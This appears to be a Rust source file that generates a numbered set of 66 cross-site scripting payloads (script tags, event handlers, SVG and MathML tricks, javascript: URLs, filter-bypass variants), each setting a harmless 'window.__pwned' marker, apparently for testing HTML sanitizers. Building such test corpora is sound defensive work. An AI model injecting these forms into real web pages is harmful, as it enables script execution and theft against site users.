//! Texts that would run as a program where a page took them for one. Each sets `window.__pwned`, as soon as it is parsed, or
//! when it loads, fails, is shown, focused or followed.

/// What each of them does.
const RUN: &str = "window.__pwned=1";

/// Where `RUN` goes, `%` stands.
const FORMS: [&str; 66] = [
    "<script>%</script>",
    "<ScRiPt>%</sCrIpT>",
    "<script src=\"data:text/javascript,%\"></script>",
    "<script type=module>%</script>",
    "</script><script>%</script>",
    "<scr<script>ipt>%</scr</script>ipt>",
    "<script\u{0}>%</script>",
    "<script/x>%</script>",
    "<img src=x onerror=%>",
    "<img src=x onerror=\"%\">",
    "<IMG SRC=x ONERROR=%>",
    "<img/src=x/onerror=%>",
    "<img src=data:, onerror=%>",
    "<img src=x:x onerror='%'>",
    "<image src=x onerror=%>",
    "<img srcset=x onerror=%>",
    "<picture><source srcset=x><img onerror=% src=x></picture>",
    "\"><img src=x onerror=%>",
    "'><img src=x onerror=%>",
    "`><img src=x onerror=%>",
    "--><img src=x onerror=%>",
    "]]><img src=x onerror=%>",
    "</textarea><img src=x onerror=%>",
    "</title><img src=x onerror=%>",
    "</style><img src=x onerror=%>",
    "</template><img src=x onerror=%>",
    "</noscript><img src=x onerror=%>",
    "</select><img src=x onerror=%>",
    "</svg><img src=x onerror=%>",
    "<svg onload=%>",
    "<svg/onload=%>",
    "<svg><script>%</script></svg>",
    "<svg><animate onbegin=% attributeName=x dur=1s>",
    "<svg><set onbegin=% attributename=x>",
    "<svg><a href=\"javascript:%\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>%</script></svg>#x\"/>",
    "<svg><foreignObject><img src=x onerror=%></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=%></style></mglyph></table></mtext></math>",
    "<math><maction actiontype=\"statusline\" href=\"javascript:%\">x</maction></math>",
    "<iframe src=\"javascript:parent.%\"></iframe>",
    "<iframe srcdoc=\"<script>parent.%</script>\"></iframe>",
    "<iframe onload=%></iframe>",
    "<object data=\"javascript:%\"></object>",
    "<object data=\"data:text/html,<script>parent.%</script>\"></object>",
    "<embed src=\"javascript:%\">",
    "<video src=x onerror=%></video>",
    "<video><source onerror=% src=x></video>",
    "<audio src=x onerror=%></audio>",
    "<body onload=%>",
    "<input autofocus onfocus=%>",
    "<select autofocus onfocus=%></select>",
    "<textarea autofocus onfocus=%></textarea>",
    "<details open ontoggle=%><summary>x</summary></details>",
    "<marquee onstart=%>x</marquee>",
    "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=%>x</p>",
    "<link rel=stylesheet href=x onerror=%>",
    "<base href=\"javascript:%//\"><a href=x>x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:%\">",
    "<form action=\"javascript:%\"><button autofocus>x</button></form>",
    "<a href=\"javascript:%\">x</a>",
    "<a href=\"java\tscript:%\">x</a>",
    "[x](javascript:%)",
    "![x](x\" onerror=\"%)",
    "<x onpointerrawupdate=% contenteditable autofocus onfocus=%>",
    "{{constructor.constructor('%')()}} ${%} <%= % %> #{%}",
    "javascript:%",
];

/// The texts, each with a number so that no two are equal.
#[must_use]
pub fn payloads() -> Vec<String> {
    let text = |(number, form): (usize, &&str)| format!("{number} {}", form.replace('%', RUN));
    FORMS.iter().enumerate().map(text).collect()
}
